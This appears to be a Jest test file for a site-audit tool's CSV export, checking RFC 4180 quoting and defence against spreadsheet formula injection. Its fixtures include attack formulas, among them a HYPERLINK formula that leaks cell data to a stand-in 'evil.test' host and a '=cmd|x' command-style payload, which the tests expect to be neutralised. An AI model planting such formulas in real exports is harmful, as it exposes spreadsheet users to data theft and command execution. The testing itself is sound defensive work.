import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { toCsv } from '#cli/to-csv.ts';
import { toDocument } from '#cli/to-document.ts';
import { runOf } from './run-of.ts';

type Page = Parameters<typeof toCsv>[0]['pages'][number];

const PAGE: Page = {
  url: 'https://a.test/',
  finalUrl: 'https://a.test/',
  status: 200,
  contentType: 'text/html',
  depth: 0,
  indexable: true,
  title: 'A',
  metaDescription: null,
  canonical: null,
  h1: ['One', 'Two'],
  wordCount: 12,
  inlinks: 3,
  outlinks: 4,
  imagesWithoutAlt: 0,
  encoding: 'utf-8',
  redirects: [],
  issues: [],
};

const csv = (...pages: Partial<Page>[]) =>
  toCsv({ pages: pages.map((page): Page => Object.assign({}, PAGE, page)) });

/** RFC 4180, by the letter: https://www.rfc-editor.org/rfc/rfc4180#section-2 */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const match = field.exec(text);
    if (match === null) throw new Error(`no CSV at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`);
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const titleOf = (title: string) => parse(csv({ title }))[1]?.[6];

describe('the table', () => {
  test('has a header and a row for each URL', () => {
    expect(
      csv(
        {},
        { url: 'https://a.test/b', status: null, title: null, notCrawled: 'robots', issues: ['x', 'y'] },
      ),
    ).toBe(
      [
        'url,finalUrl,status,contentType,depth,indexable,title,metaDescription,canonical,h1,wordCount,inlinks,outlinks,imagesWithoutAlt,encoding,issues,notCrawled',
        'https://a.test/,https://a.test/,200,text/html,0,true,A,,,"One; Two",12,3,4,0,utf-8,,',
        'https://a.test/b,https://a.test/,,text/html,0,true,,,,"One; Two",12,3,4,0,utf-8,"x; y",robots',
        '',
      ].join('\r\n'),
    );
  });

  test('of nothing is its header alone', () => {
    expect(parse(csv())).toHaveLength(1);
  });

  test.each(['a,b', 'say "hi"', 'two\r\nlines', 'two\nlines', '""', ',', ' spaced ', 'a;b', 'a\tb'])(
    'carries %j whole',
    (title) => {
      expect(titleOf(title)).toBe(title);
    },
  );

  test('is RFC 4180 whatever a page says', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { maxLength: 5 }), (titles) => {
        const rows = parse(csv(...titles.map((title) => ({ title, url: title, h1: [title, title] }))));
        expect(rows).toHaveLength(titles.length + 1);
        for (const row of rows) expect(row).toHaveLength(17);
      }),
    );
  });
});

describe('a cell that a spreadsheet would run', () => {
  test.each([
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('%j is text', (title) => {
    expect(titleOf(title)).toBe(`'${title}`);
  });

  test('is guarded in every column that a site can fill', () => {
    const evil = '=1';
    const [, row = []] = parse(
      csv({
        title: evil,
        metaDescription: evil,
        canonical: evil,
        h1: [evil],
        contentType: evil,
        encoding: evil,
        finalUrl: evil,
      }),
    );
    expect(row.filter((cell) => cell.startsWith('='))).toEqual([]);
    expect(row.filter((cell) => cell === "'=1")).toHaveLength(7);
  });

  test('numbers stay numbers', () => {
    expect(parse(csv({ depth: -1 }))[1]?.[4]).toBe('-1');
  });

  test('no cell can begin one where semicolons part cells', () => {
    expect(csv({ title: 'x;=1+1' })).toContain(',"x;=1+1",');
  });
});

test('a whole audit becomes a table', async () => {
  const run = await runOf({
    pages: { 'https://a.test/': { title: '=cmd|x' } },
    skipped: { 'https://a.test/no': {} },
  });
  const rows = parse(toCsv(toDocument(run)));
  expect(rows.map(([url, , status]) => [url, status])).toEqual([
    ['url', 'status'],
    ['https://a.test/', '200'],
    ['https://a.test/no', ''],
  ]);
  expect(rows[1]?.[6]).toBe("'=cmd|x");
});
